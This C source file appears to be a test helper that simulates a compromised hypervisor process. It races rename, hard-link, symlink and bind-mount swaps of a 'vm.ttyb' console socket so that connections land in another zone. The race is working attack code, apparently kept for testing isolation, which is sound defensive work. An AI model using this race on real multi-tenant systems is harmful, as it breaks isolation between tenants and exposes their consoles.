/*
 * A hypervisor process that was compromised: leads whoever dials its port to another zone's, and back, as
 * fast as it can, until its input ends. Root's means are among them: it may have been given some.
 *
 *   port-racer rename|link|symlink|mount OWN OTHER     directories with a `vm.ttyb` each
 */
#define	_GNU_SOURCE
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	char own[4096], other[4096], aside[4096], made[4096];
	struct pollfd input = { STDIN_FILENO, POLLIN, 0 };
	const char *how = argc == 4 ? argv[1] : "";

	(void) snprintf(own, sizeof (own), "%s/vm.ttyb", argv[2]);
	(void) snprintf(other, sizeof (other), "%s/vm.ttyb", argv[3]);
	(void) snprintf(made, sizeof (made), "%s/.made", argv[2]);
	(void) snprintf(aside, sizeof (aside), strcmp(how, "symlink") == 0 ? "%s.aside" : "%s/.aside",
	    argv[2]);
	while (poll(&input, 1, 0) == 0) {
		if (strcmp(how, "mount") == 0) {
			(void) mount(argv[3], argv[2], NULL, MS_BIND, NULL);
			(void) usleep(200);
			(void) umount2(argv[2], MNT_DETACH);
			(void) usleep(200);
		} else if (strcmp(how, "symlink") == 0) {
			(void) rename(argv[2], aside);
			(void) symlink(argv[3], argv[2]);
			(void) usleep(50);
			(void) unlink(argv[2]);
			(void) rename(aside, argv[2]);
			(void) usleep(50);
		} else {
			/* The other's socket itself under our name, or a link to it. */
			if ((strcmp(how, "link") == 0 ? link(other, made) : symlink(other, made)) == 0) {
				(void) rename(own, aside);
				(void) rename(made, own);
				(void) usleep(50);
				(void) rename(aside, own);
			}
			(void) usleep(50);
		}
	}
	return (0);
}
